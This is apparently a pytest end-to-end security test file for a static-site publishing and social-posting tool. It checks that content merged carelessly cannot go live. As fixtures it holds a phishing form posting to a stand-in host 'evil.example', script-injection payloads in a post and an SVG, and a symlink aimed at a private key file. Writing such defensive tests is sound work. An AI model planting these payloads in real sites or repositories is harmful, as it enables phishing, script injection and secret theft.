"""Attack classes 2 and 3 the whole way: branch → careless merge → the scheduler's tick.

The unit-level tests beside this file show each rule on one repository. Here the same
attacks go the way they would in production: an editor pushes a branch to the git
server, a merger merges it without looking, and the scheduler's clone of ``main`` runs
``dialogpress tick`` — production build, deploy to ``public/``, posting to the sandbox.
What the public can reach is read from the deployed tree and the sandbox's state.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from gitsite import LEAD, LENA, PETRA, jpeg
from trustworld import NOW, Clone, Run, World, make_keys, make_world

from editorial.times import parse_time
from publish.sandbox import Sandbox, clock_from
from publish.sandbox.facebook import PAGE_ID, PAGE_TOKEN

ADVENT = "content/posts/service-im-advent.md"


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return make_keys(tmp_path_factory.mktemp("keys"))


@pytest.fixture
def world(tmp_path: Path, keys: dict[str, Path]) -> World:
    return make_world(tmp_path, keys)


@pytest.fixture
def sandbox() -> Iterator[Sandbox]:
    with Sandbox(consumer_key="e2e", twitter_clock=clock_from(
            parse_time(NOW, "Europe/Berlin"))) as box:
        yield box


def tick(clone: Clone, box: Sandbox) -> Run:
    return clone.dp("tick", "--now", NOW, env={
        "DP_TEST_SANDBOX_X": box.twitter_url, "DP_TEST_SANDBOX_FB": box.facebook_url,
        "DP_TEST_PAGE_ID": PAGE_ID,
        "DP_TWITTER_CONSUMER_KEY": "e2e", "DP_TWITTER_CONSUMER_SECRET": "s",
        "DP_TWITTER_ACCESS_TOKEN": "1-t", "DP_TWITTER_ACCESS_TOKEN_SECRET": "s",
        "DP_FACEBOOK_PAGE_TOKEN": PAGE_TOKEN, "DP_ACTOR": "ops@kranich.example",
    })


def merged_carelessly(world: World, editor: Clone, branch: str) -> Clone:
    """The merger merges the pushed branch into main without looking; returns the
    scheduler's fresh clone of main."""
    editor.git("push", "-q", "origin", f"HEAD:refs/heads/{branch}")
    merger = world.clone(LEAD)
    merger.git("fetch", "-q", "origin", branch)
    merger.git("merge", "-q", "--no-ff", "-m", f"Merge {branch}", f"origin/{branch}")
    merger.git("push", "-q", "origin", "main")
    return world.clone(LEAD)


def public_files(clone: Clone) -> dict[str, bytes]:
    live = clone.root / "public"
    found: dict[str, bytes] = {}
    for folder, _, names in os.walk(live):
        for name in names:
            path = Path(folder) / name
            found[path.relative_to(live).as_posix()] = path.read_bytes()
    return found


def texts(box: Sandbox) -> list[str]:
    state: dict[str, Any] = box.twitter.state()
    return [t["text"] for t in state["tweets"]] + [
        p.get("message", "") for p in box.facebook.state()["posts"]
    ]


def test_a_picture_swapped_after_approval_never_replaces_the_approved_one(
    world: World, sandbox: Sandbox
) -> None:
    scheduler = world.clone(LEAD)
    first = tick(scheduler, sandbox)
    assert first.code == 0, first.output
    assert public_files(scheduler)["images/team.jpg"] == jpeg(b"team-1")
    editor = world.clone(LENA)
    editor.write("content/images/team.jpg", jpeg(b"a different picture"))
    editor.commit("Besseres Foto")
    merged_carelessly(world, editor, "foto")
    scheduler.git("pull", "-q", "--ff-only")
    run = tick(scheduler, sandbox)
    # the only post is stale now: the build would publish nothing, so it fails and the
    # approved version stays live
    assert run.code == 1 and "posts/service-im-advent.md" in run.output, run.output
    live = public_files(scheduler)
    assert live["images/team.jpg"] == jpeg(b"team-1")
    assert not any(b"a different picture" in data for data in live.values())
    listed = scheduler.dp("approvals", ADVENT)
    assert listed.out.startswith("stale")


def test_a_script_in_an_approved_post_never_goes_public(
    world: World, sandbox: Sandbox
) -> None:
    editor = world.clone(LENA)
    editor.write("content/posts/aktion.md", (
        "---\ntitle: Aktion\ndate: 2026-11-23 09:00\ncategory: Service\n---\n"
        "Unsere Aktion.\n\n<script>document.body.innerHTML='Gewinnspiel!'</script>\n"
    ))
    editor.commit("Aktion")
    editor.git("push", "-q", "origin", "HEAD:refs/heads/aktion")
    approver = world.clone(PETRA, "aktion")
    refused = approver.approve("content/posts/aktion.md")
    assert refused.code == 1 and "content.active" in refused.output
    scheduler = merged_carelessly(world, editor, "aktion")
    run = tick(scheduler, sandbox)
    live = public_files(scheduler)
    assert "service-im-advent.html" in live, run.output
    assert "aktion.html" not in live
    assert not any(b"Gewinnspiel" in data for data in live.values())


def test_pages_and_static_files_nobody_approved_are_not_deployed(
    world: World, sandbox: Sandbox
) -> None:
    editor = world.clone(LENA)
    editor.write("content/pages/impressum.md",
                 "---\ntitle: Impressum\nslug: impressum\n---\nFalsche Adresse.\n")
    editor.write("content/images/login.html", "<form action='https://evil.example'>PIN</form>")
    editor.write("content/images/badge.svg",
                 "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")
    editor.commit("Impressum und Dateien")
    scheduler = merged_carelessly(world, editor, "dateien")
    run = tick(scheduler, sandbox)
    live = public_files(scheduler)
    assert "service-im-advent.html" in live, run.output
    assert "images/team.jpg" in live  # the approved post's picture
    assert "pages/impressum.html" not in live
    assert "images/login.html" not in live and "images/badge.svg" not in live


def test_a_symlink_to_a_secret_stops_the_deploy(
    world: World, sandbox: Sandbox, tmp_path: Path
) -> None:
    secret = tmp_path / "portal_key"
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY----- geheim\n")
    editor = world.clone(LENA)
    os.symlink(secret, editor.root / "content" / "images" / "logo.png")
    editor.commit("Logo")
    scheduler = merged_carelessly(world, editor, "logo")
    run = tick(scheduler, sandbox)
    assert run.code == 1 and "content/images/logo.png" in run.output
    assert not any(b"geheim" in data for data in public_files(scheduler).values())
    assert texts(sandbox) == []
